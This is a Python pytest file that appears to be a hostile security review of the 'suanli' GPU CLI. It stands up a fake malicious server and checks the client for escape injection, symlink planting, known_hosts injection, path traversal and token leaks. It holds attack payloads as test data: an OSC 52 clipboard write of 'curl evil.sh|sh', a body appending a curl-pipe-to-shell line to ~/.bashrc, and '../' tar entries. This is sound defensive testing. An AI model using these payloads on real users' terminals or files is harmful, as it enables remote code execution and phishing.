"""The CLI and SDK against a hostile server, and against other users of the tenant's machine (a hostile review).

A hostile or compromised server (or one the tenant was tricked into using) is a tiny threaded http.server on
127.0.0.1 answering whatever the test needs; the CLI runs as a subprocess with its own SUANLI_HOME. Found and fixed:
escape sequences and Rich markup in a server's words reaching the terminal, a host key with newlines pinning keys for
other servers in the shared known_hosts, credentials written through a planted link or kept in a directory others may
write, a download written through a planted `.suanli-part` link or past the size announced or stalled for ever, deep
JSON as a traceback, a huge exponent formatted digit by digit, and a password in the server URL printed. What held:
redirects carry no token elsewhere, tokens are not printed, new credentials are 0600, workdir links are refused, tree
entries outside the copy are refused, proxy links of another scheme are not opened as is, `--json` stays one document.
Not fixed (see the closing note): no cap on an answer's size, and no deadline over a whole answer dripped slowly.
"""

from __future__ import annotations

import contextlib
import hashlib
import io
import json
import os
import re
import socket
import stat
import subprocess
import sys
import tarfile
import threading
import time
from collections.abc import Callable
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from suanli.client import ApiError, Client
from suanli.workdir_upload import pack_workdir

CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")
OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07"  # clipboard := "curl evil.sh|sh"
TOKEN = "sl_victimtoken_0123456789abcdef"
ME = {
    "user": {"id": "u_1", "email": "me@example.com", "is_admin": False, "personal_org_id": "org_1",
             "created_at": "2025-01-01T00:00:00+00:00"},
    "orgs": [],
}  # fmt: skip

Handler = Callable[[BaseHTTPRequestHandler], None]


def send_json(h: BaseHTTPRequestHandler, doc: Any, status: int = 200) -> None:
    body = json.dumps(doc).encode()
    h.send_response(status)
    h.send_header("Content-Type", "application/json")
    h.send_header("Content-Length", str(len(body)))
    h.end_headers()
    h.wfile.write(body)


class Hostile:
    """A threaded HTTP server: `routes[(METHOD, path)]` answers; every request's headers are kept in `seen`."""

    def __init__(self, routes: dict[tuple[str, str], Handler]) -> None:
        self.routes = routes
        self.seen: list[tuple[str, str, dict[str, str]]] = []
        outer = self

        class H(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def log_message(self, *a: Any) -> None:
                pass

            def _any(self) -> None:
                path = self.path.split("?", 1)[0]
                outer.seen.append((self.command, self.path, dict(self.headers)))
                n = int(self.headers.get("Content-Length") or 0)
                if n:
                    self.rfile.read(n)
                fn = outer.routes.get((self.command, path)) or outer.routes.get(("*", "*"))
                if fn is None:
                    send_json(self, {"detail": "not found"}, 404)
                    return
                with contextlib.suppress(BrokenPipeError, ConnectionResetError):
                    fn(self)

            do_GET = do_POST = do_PUT = do_DELETE = _any

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), H)
        self.httpd.daemon_threads = True
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}"
        self.thread = threading.Thread(target=self.httpd.serve_forever, daemon=True)

    def __enter__(self) -> Hostile:
        self.thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


def cli(
    args: list[str], home: Path, server: str, *, timeout: float = 60, **env: str
) -> subprocess.CompletedProcess[str]:
    full = {k: v for k, v in os.environ.items() if not k.startswith("SUANLI_")}
    full.update({"SUANLI_HOME": str(home), "SUANLI_SERVER": server, "SUANLI_TOKEN": TOKEN, "COLUMNS": "200", **env})
    return subprocess.run([sys.executable, "-m", "suanli.cli.main", *args], capture_output=True, text=True,
                          env=full, timeout=timeout, input="pw\n")  # fmt: skip


def in_thread(fn: Callable[[], Any], seconds: float) -> tuple[bool, Any]:
    """(finished within `seconds`, its result or exception)."""
    box: list[Any] = []

    def run() -> None:
        try:
            box.append(fn())
        except BaseException as e:
            box.append(e)

    t = threading.Thread(target=run, daemon=True)
    t.start()
    t.join(seconds)
    return (not t.is_alive(), box[0] if box else None)


# ---- terminal: a hostile server's error text reaches stderr raw ---------------------------------------------------
def test_a_servers_error_detail_reaches_the_terminal_inert(tmp_path: Path) -> None:
    """`api_fail` (cli/credentials.py:125) echoes the server's `detail` with typer.echo: whitespace is folded, but
    ESC, BEL and C1 controls go to the terminal as they came (OSC 52 writes the clipboard)."""
    routes = {("GET", "/api/v1/me"): lambda h: send_json(h, {"detail": f"not allowed{OSC52}\x9b2J"}, 403)}
    with Hostile(routes) as srv:
        p = cli(["whoami"], tmp_path, srv.url)
    assert p.returncode == 2, p
    bad = sorted({repr(c) for c in CONTROL.findall(p.stderr)})
    assert not bad, f"control bytes from the server's error reach the terminal: {bad} {p.stderr!r}"


def test_a_non_json_error_page_reaches_the_terminal_inert(tmp_path: Path) -> None:
    """`_error` (client/client.py:402) quotes 200 characters of a non-JSON error body, controls and all."""

    def page(h: BaseHTTPRequestHandler) -> None:
        body = f"<html>{OSC52}bad gateway</html>".encode()
        h.send_response(502)
        h.send_header("Content-Type", "text/html")
        h.send_header("Content-Length", str(len(body)))
        h.end_headers()
        h.wfile.write(body)

    with Hostile({("GET", "/api/v1/me"): page}) as srv:
        p = cli(["whoami"], tmp_path, srv.url)
    assert p.returncode == 1, p
    assert "\x1b" not in p.stderr and "\x07" not in p.stderr, repr(p.stderr)


def test_rich_markup_in_a_server_string_makes_no_hyperlink(tmp_path: Path) -> None:
    """`suanli verify --resend` prints the server's `sent_to` into console.print markup unescaped
    (cli/account.py:150): `[link=…]` becomes an OSC 8 hyperlink on a terminal, past cli/terminal.py."""
    evil = "[link=https://evil.example/login]me@example.com[/link]"
    routes = {("POST", "/api/v1/verify/resend"): lambda h: send_json(h, {"sent_to": evil})}
    with Hostile(routes) as srv:
        p = cli(["verify", "--resend"], tmp_path, srv.url, FORCE_COLOR="1", TTY_COMPATIBLE="1")
    assert "\x1b]8;" not in p.stdout and "evil.example" in p.stdout, (p.stdout, p.stderr)


# ---- ssh: known_hosts ------------------------------------------------------------------------------------------
def test_a_host_key_with_a_newline_pins_no_keys_for_other_hosts(tmp_path: Path) -> None:
    """`ssh_argv` (cli/ssh.py:91) writes the server's `host_key` into the shared SUANLI_HOME/ssh_known_hosts without
    checking it is one key: a newline lets server A add a key (or @cert-authority) for server B's gateway, and
    StrictHostKeyChecking=yes then accepts A's key when the tenant later runs `suanli ssh` against B."""
    key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHostileHostileHostileHostileHostileHostile00"
    injected = f"{key}\n[gpu.other-provider.example]:2222 {key}\n@cert-authority * {key}"
    doc = {"enabled": True, "port": 2222, "host_key": injected, "host_key_fingerprint": "SHA256:x"}
    with Hostile({("GET", "/api/v1/ssh"): lambda h: send_json(h, doc)}) as srv:
        p = cli(["ssh", "box", "--print"], tmp_path, srv.url)
    kh = tmp_path / "ssh_known_hosts"
    lines = kh.read_text().splitlines() if kh.exists() else []
    others = [ln for ln in lines if not ln.startswith("[127.0.0.1]:2222 ")]
    assert not others, f"server A pinned keys for other hosts in the shared known_hosts: {others} ({p.stderr!r})"


# ---- credentials -------------------------------------------------------------------------------------------------
def test_credentials_are_never_written_through_a_planted_link(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """`_write` (cli/credentials.py:79) opens `.credentials.json.<pid>.tmp` with O_CREAT|O_TRUNC but neither
    O_EXCL nor O_NOFOLLOW: whoever can write SUANLI_HOME (a shared/loose directory) plants a link there (pids are
    guessable) and the tokens are written into a file of their choosing."""
    from suanli.cli import credentials as cred

    home = tmp_path / "home"
    home.mkdir()
    grab = tmp_path / "attacker" / "grab.json"
    grab.parent.mkdir()
    grab.write_text("")
    os.symlink(grab, home / f".credentials.json.{os.getpid()}.tmp")
    monkeypatch.setenv("SUANLI_HOME", str(home))
    with contextlib.suppress(OSError):  # refusing is fine
        cred.save("https://gpu.example", TOKEN, "me@example.com")
    assert TOKEN not in grab.read_text(), "the bearer token was written through a link planted in SUANLI_HOME"


def test_credentials_are_not_saved_in_a_directory_others_may_write(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """An existing SUANLI_HOME that others may write (0777) is used as is (cli/credentials.py:77): anyone can
    replace credentials.json (their token: the victim's uploads land in the attacker's account) or plant links."""
    from suanli.cli import credentials as cred

    home = tmp_path / "shared"
    home.mkdir()
    os.chmod(home, 0o777)
    monkeypatch.setenv("SUANLI_HOME", str(home))
    refused = False
    try:
        cred.save("https://gpu.example", TOKEN, "me@example.com")
    except (OSError, SystemExit, Exception):
        refused = True
    mode = stat.S_IMODE(home.stat().st_mode)
    assert refused or not mode & 0o022, f"tokens saved in a directory others may write (mode {oct(mode)})"


def test_credentials_are_saved_in_the_callers_own_group_writable_home(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A umask of 002 (Debian's default for users) makes the data directory group-writable: the caller's own is
    made not writable by others and used, not refused (a later review found logins refused there)."""
    from suanli.cli import credentials as cred

    home = tmp_path / "home"
    home.mkdir()
    os.chmod(home, 0o775)
    monkeypatch.setenv("SUANLI_HOME", str(home))
    cred.save("https://gpu.example", TOKEN, "me@example.com")
    assert stat.S_IMODE(home.stat().st_mode) == 0o755
    assert cred.load_all()["https://gpu.example"]["token"] == TOKEN


# ---- volumes cp (single file over HTTP) -----------------------------------------------------------------------
def _volume_routes(size: int, body: bytes, sha: str) -> dict[tuple[str, str], Handler]:
    def stat_(h: BaseHTTPRequestHandler) -> None:
        send_json(h, {"kind": "file", "size": size, "sha256": sha})

    def files(h: BaseHTTPRequestHandler) -> None:
        rng = h.headers.get("Range")
        start = int(rng.split("=")[1].rstrip("-")) if rng else 0
        chunk = body[start:] if rng else body
        h.send_response(206 if rng else 200)
        h.send_header("Content-Length", str(len(chunk)))
        h.end_headers()
        h.wfile.write(chunk)

    return {("GET", "/api/v1/volumes/v/stat"): stat_, ("GET", "/api/v1/volumes/v/files"): files}


def test_a_download_is_never_written_through_a_planted_part_link(tmp_path: Path) -> None:
    """`_fetch` (client/volume_copy.py:306) opens `DEST.suanli-part` with open(..., "ab"/"wb"), following links; its
    size is read with part.stat() (line 263), following too. Another local user plants
    /tmp/report.csv.suanli-part -> the victim's ~/.bashrc; `suanli volumes cp vol:v/report.csv /tmp/report.csv`
    appends the volume's bytes to ~/.bashrc (206) or truncates and overwrites it (200)."""
    victim = tmp_path / "victim_home" / ".bashrc"
    victim.parent.mkdir()
    victim.write_text("# my bashrc\n")
    before = victim.read_bytes()
    shared = tmp_path / "shared_tmp"
    shared.mkdir()
    os.symlink(victim, shared / "report.csv.suanli-part")
    body = b"A" * len(before) + b"\ncurl evil.example/x.sh | sh\n"
    routes = _volume_routes(len(body), body, hashlib.sha256(body).hexdigest())
    with Hostile(routes) as srv, Client(srv.url, TOKEN) as c, contextlib.suppress(ApiError):
        c.volume_download("v", "report.csv", shared / "report.csv", same_host=False)
    assert victim.read_bytes() == before, f"the download wrote through a planted link: {victim.read_bytes()!r}"


def test_a_download_takes_no_more_bytes_than_announced(tmp_path: Path) -> None:
    """The file's announced size (stat) bounds nothing in `_fetch`: a server announcing 10 bytes may send any amount
    (an endless body fills the disk); the copy is accepted when the hash matches what was sent."""
    body = b"x" * (4 << 20)
    with Hostile(_volume_routes(10, body, hashlib.sha256(body).hexdigest())) as srv, Client(srv.url, TOKEN) as c:
        dest = tmp_path / "out.bin"
        with contextlib.suppress(ApiError):
            c.volume_download("v", "f", dest, same_host=False)
    got = max((p.stat().st_size for p in tmp_path.glob("out.bin*")), default=0)
    assert got <= 10, f"announced 10 bytes, wrote {got}"


def test_a_stalled_download_times_out(tmp_path: Path) -> None:
    """`_stream` / `volume_download` / `_fetch` pass timeout=None: a server that sends the headers and then nothing
    holds `suanli volumes cp` forever (no read timeout at all)."""
    hold = threading.Event()

    def stall(h: BaseHTTPRequestHandler) -> None:
        h.send_response(200)
        h.send_header("Content-Length", "1000")
        h.end_headers()
        h.wfile.write(b"x")
        h.wfile.flush()
        hold.wait(30)

    routes = {**_volume_routes(1000, b"", "0" * 64), ("GET", "/api/v1/volumes/v/files"): stall}
    with Hostile(routes) as srv:
        c = Client(srv.url, TOKEN, timeout=2)
        done, _ = in_thread(lambda: c.volume_download("v", "f", tmp_path / "o", same_host=False), 12)
        hold.set()
    assert done, "a stalled download never timed out (timeout=None); the client's own timeout=2 was ignored"


# ---- resource exhaustion on ordinary calls ---------------------------------------------------------------------
def test_deeply_nested_json_is_one_error_line(tmp_path: Path) -> None:
    """`r.json()` raises RecursionError (not ValueError) on deep nesting; `Client.call` (client/client.py:198)
    catches only ValueError, so the CLI dies with a traceback instead of one `error:` line."""

    def deep(h: BaseHTTPRequestHandler) -> None:
        body = b"[" * 200_000 + b"]" * 200_000
        h.send_response(200)
        h.send_header("Content-Type", "application/json")
        h.send_header("Content-Length", str(len(body)))
        h.end_headers()
        h.wfile.write(body)

    with Hostile({("GET", "/api/v1/me"): deep}) as srv:
        p = cli(["whoami"], tmp_path, srv.url)
    assert "Traceback" not in p.stderr and "RecursionError" not in p.stderr, p.stderr[-800:]
    assert p.returncode in (1, 2) and p.stderr.startswith("error: "), p.stderr[-800:]


def test_a_huge_decimal_exponent_is_refused_at_once(tmp_path: Path) -> None:
    """Money is parsed with Decimal(str(value)) (client/models.py:352) and shown with f"{d:,.2f}"
    (cli/credentials.py:197): a balance of "1E+999999999" is rendered as a billion-digit string (seconds of CPU,
    gigabytes of memory) and then laid out by Rich. A sane client bounds what it accepts as an amount."""
    bal = {"org_id": "org_1", "balance": "1E+999999999", "exact": "1", "currency": "USD", "held_per_hour": "0"}
    routes = {("GET", "/api/v1/me"): lambda h: send_json(h, ME),
              ("GET", "/api/v1/orgs/org_1/balance"): lambda h: send_json(h, bal)}  # fmt: skip
    with Hostile(routes) as srv:
        started = time.monotonic()
        try:
            p = cli(["balance"], tmp_path, srv.url, timeout=15)
        except subprocess.TimeoutExpired:
            pytest.fail("`suanli balance` ran past 15 s on a hostile balance")
    took = time.monotonic() - started
    assert took < 10 and len(p.stdout) < 10_000, f"{took:.1f}s, {len(p.stdout)} characters of output"


# ---- secrets in messages --------------------------------------------------------------------------------------
def test_a_password_in_the_server_url_is_never_printed(tmp_path: Path) -> None:
    """`--server https://user:secret@host` (a URL pasted from a wiki, a proxy) is echoed whole in every error
    (client/client.py:178,182: "cannot reach suanli server at {self.server}"), so the password lands in CI logs."""
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    p = cli(["whoami"], tmp_path, f"http://alice:hunter2secret@127.0.0.1:{port}")
    assert p.returncode == 1, p
    assert "hunter2secret" not in p.stderr + p.stdout, p.stderr


# ---- what held -----------------------------------------------------------------------------------------------
SESSION = {"user": ME["user"], "token": TOKEN, "token_id": "tok_1", "expires_at": None}


def _redirect(to: str, code: int = 307) -> object:
    def go(h: BaseHTTPRequestHandler) -> None:
        h.send_response(code)
        h.send_header("Location", to)
        h.send_header("Content-Length", "0")
        h.end_headers()

    return go


@pytest.mark.parametrize("code", [301, 302, 307, 308])
def test_a_redirect_to_another_host_does_not_carry_the_bearer_token(tmp_path: Path, code: int) -> None:
    with Hostile({("*", "*"): lambda h: send_json(h, ME)}) as thief:
        # "localhost" vs "127.0.0.1": another origin, and http (a downgrade from an https server looks the same)
        other = thief.url.replace("127.0.0.1", "localhost")
        with Hostile({("GET", "/api/v1/me"): _redirect(f"{other}/api/v1/me", code)}) as srv:  # type: ignore[dict-item]
            p = cli(["whoami"], tmp_path, srv.url)
            with Client(srv.url, TOKEN) as c, pytest.raises(ApiError):
                c.me()
    assert p.returncode != 0
    assert not thief.seen, f"the client followed a {code} to another host: {thief.seen}"


def test_signup_json_and_login_output_do_not_print_the_token(tmp_path: Path) -> None:
    signup = {**SESSION, "org": None, "balance": "0", "currency": "USD"}
    routes = {("POST", "/api/v1/signup"): lambda h: send_json(h, signup, 201),
              ("POST", "/api/v1/login"): lambda h: send_json(h, SESSION)}  # fmt: skip
    with Hostile(routes) as srv:
        env = {"SUANLI_TOKEN": ""}
        a = cli(["signup", "--email", "me@example.com", "--password-stdin", "--json", "--force"], tmp_path / "a",
                srv.url, **env)  # fmt: skip
        b = cli(["login", "--email", "me@example.com", "--password-stdin"], tmp_path / "b", srv.url, **env)
    for p in (a, b):
        assert p.returncode == 0, p
        assert TOKEN not in p.stdout + p.stderr, p


def test_saved_credentials_are_0600_in_a_new_directory(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from suanli.cli import credentials as cred

    monkeypatch.setenv("SUANLI_HOME", str(tmp_path / "new" / "home"))
    old = os.umask(0)  # the loosest umask: the file must still be ours only
    try:
        cred.save("https://gpu.example", TOKEN, "me@example.com")
    finally:
        os.umask(old)
    assert stat.S_IMODE(cred.path().stat().st_mode) == 0o600
    assert [p.name for p in cred.path().parent.iterdir()] == ["credentials.json"]  # no temp file left


def test_a_workdir_link_to_the_tenants_ssh_keys_is_refused(tmp_path: Path) -> None:
    secret = tmp_path / "dotssh" / "id_ed25519"
    secret.parent.mkdir()
    secret.write_text("-----BEGIN OPENSSH PRIVATE KEY-----\n")
    wd = tmp_path / "wd"
    (wd / "sub").mkdir(parents=True)
    (wd / "train.py").write_text("print(1)\n")
    os.symlink(secret.parent, wd / "sub" / "keys")
    with pytest.raises(ValueError, match="symbolic link"):
        pack_workdir(wd)
    (wd / "sub" / "keys").unlink()
    os.symlink(secret, wd / "id")
    with pytest.raises(ValueError, match="symbolic link"):
        pack_workdir(wd)


def test_a_million_digit_number_in_json_is_a_clean_error() -> None:
    def big(h: BaseHTTPRequestHandler) -> None:
        body = b'{"user": ' + b"9" * 1_000_000 + b"}"
        h.send_response(200)
        h.send_header("Content-Type", "application/json")
        h.send_header("Content-Length", str(len(body)))
        h.end_headers()
        h.wfile.write(body)

    with (
        Hostile({("GET", "/api/v1/me"): big}) as srv,
        Client(srv.url, TOKEN) as c,
        pytest.raises(ApiError, match="did not answer with JSON"),
    ):
        c.me()


def test_a_deep_json_crash_does_not_print_the_token(tmp_path: Path) -> None:
    def deep(h: BaseHTTPRequestHandler) -> None:
        body = b"[" * 200_000 + b"]" * 200_000
        h.send_response(200)
        h.send_header("Content-Length", str(len(body)))
        h.end_headers()
        h.wfile.write(body)

    with Hostile({("GET", "/api/v1/me"): deep}) as srv:
        p = cli(["whoami"], tmp_path, srv.url)
    assert TOKEN not in p.stdout + p.stderr


def _tar(entries: list[tuple[str, bytes]]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tar:
        for name, data in entries:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


@pytest.mark.parametrize("name", ["../escape.txt", "/abs/escape.txt", "a/../../escape.txt"])
def test_a_tree_download_entry_outside_the_copy_is_refused(tmp_path: Path, name: str) -> None:
    body = _tar([("ok.txt", b"ok"), (name, b"pwned")])

    def tree(h: BaseHTTPRequestHandler) -> None:
        h.send_response(200)
        h.send_header("Content-Length", str(len(body)))
        h.end_headers()
        h.wfile.write(body)

    routes = {("GET", "/api/v1/volumes/v/stat"): lambda h: send_json(h, {"kind": "dir", "size": 0}),
              ("GET", "/api/v1/volumes/v/tree"): tree}  # fmt: skip
    dest = tmp_path / "a" / "b" / "dest"
    with Hostile(routes) as srv, Client(srv.url, TOKEN) as c, pytest.raises(ApiError, match="outside the copy"):
        c.volume_download("v", "d", dest, same_host=False)
    assert not list(tmp_path.rglob("escape.txt"))
    assert not Path("/abs/escape.txt").exists()


def test_a_proxy_link_of_another_scheme_is_not_opened_as_is() -> None:
    doc = {"url": "file:///etc/passwd", "expires_at": "2030-01-01T00:00:00+00:00", "target": "lab"}
    with Hostile({("POST", "/api/v1/workloads/box/proxy"): lambda h: send_json(h, doc)}) as srv, Client(srv.url) as c:
        link = c.open_link("box")
    assert link.url.startswith(srv.url), link.url


def test_json_output_is_one_document_even_with_hostile_strings(tmp_path: Path) -> None:
    evil = "x\n}{\x1b]52;c;AAAA\x07"
    me = {**ME, "user": {**ME["user"], "email": evil}}
    with Hostile({("GET", "/api/v1/me"): lambda h: send_json(h, me)}) as srv:
        p = cli(["whoami", "--json"], tmp_path, srv.url)
    assert p.returncode == 0, p
    assert json.loads(p.stdout)["user"]["email"] == evil
    assert "\x1b" not in p.stdout
